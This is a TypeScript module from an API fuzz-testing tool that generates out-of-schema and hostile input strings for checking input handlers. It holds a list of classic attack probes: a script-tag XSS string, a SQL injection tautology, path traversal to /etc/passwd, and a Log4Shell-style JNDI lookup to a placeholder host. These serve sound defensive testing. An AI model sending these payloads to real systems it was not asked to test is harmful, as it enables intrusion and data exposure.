/**
 * Out-of-schema material: values that break a schema the way a careless or hostile client does
 * (a wrong enum word, a date in another format, an empty list element), and strings every input
 * handler should survive (markup, quotes, a NUL, path climbing, other scripts, very long text).
 * Simple values come first: fast-check shrinks a constant towards the start of its list.
 */
import type { SchemaNode } from './spec';

/** Strings worth sending as any parameter, in order of growing strangeness. */
export const HOSTILE: readonly string[] = [
  '',
  ' ',
  'null',
  '-1',
  '"><script>alert(1)</script>',
  `'"`,
  '\\',
  '%00',
  '\u0000',
  '\t\r\n',
  '../../etc/passwd',
  "' OR '1'='1",
  '${jndi:ldap://example.invalid/a}',
  '{"a":1}',
  'Ω≈ç√∫ 日本 🚀',
  '\u202eRTL',
  'a'.repeat(2048),
];

/** The value an out-of-schema case most often sends first: breaks the schema's own rule. */
function flipCase(word: string): string {
  const flipped = [...word].map((c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase())).join('');
  return flipped === word ? `${word}x` : flipped;
}

function enumWords(schema: SchemaNode): string[] {
  return Array.isArray(schema.enum) ? (schema.enum as unknown[]).filter((v) => typeof v === 'string') : [];
}

/**
 * Deterministic out-of-schema values for one schema, a few per way it can be broken; sent before
 * the random ones (Schemathesis calls this its coverage phase). The caller drops any that turn
 * out to be inside the schema.
 */
export function schemaBreakers(schema: SchemaNode, example?: string): string[] {
  if (schema.type === 'array') {
    const words = enumWords((schema.items as SchemaNode | undefined) ?? {});
    const [a = 'a', b = a] = words;
    return [
      `${a},`,
      a.toLowerCase(),
      '"><script>alert(1)</script>',
      `${a},,${b}`,
      `${a},${a}`,
      `${a},${flipCase(b)}`,
      ` ${a}`,
    ];
  }
  const words = enumWords(schema);
  if (words.length) {
    const [a = 'a'] = words;
    return [flipCase(a), '"><script>alert(1)</script>', '', `${a} `, `${a}s`, `${a};${a}`];
  }
  if (schema.format === 'date-time') {
    // An instant's shape with an impossible day comes third, within the embedded mock's three
    // cases: only the fuzz sends one (the kick-off checks' fixed values are all misshapen), and a
    // handler that tests the shape and then converts the date fails on it.
    return [
      '2020-02-13',
      '"><script>alert(1)</script>',
      '2020-02-30T00:00:00Z',
      '2020-02-13T08:00:00',
      '2020-13-01T00:00:00Z',
      '2020-02-13T25:00:00Z',
      '2020-02-13 08:00:00Z',
      '13/02/2020',
      '1581580800',
    ];
  }
  if (schema.type === 'integer' || schema.type === 'number') {
    return ['abc', '"><script>alert(1)</script>', '-1', '0', '99999999999999999999999', 'NaN'];
  }
  if (typeof schema.pattern === 'string') {
    const sample = example ?? 'x';
    return [
      `${sample}.bak`,
      '"><script>alert(1)</script>',
      'x',
      flipCase(sample),
      `..%2F${sample}`,
      `../${sample}`,
    ];
  }
  return ['"><script>alert(1)</script>', '', 'x'];
}
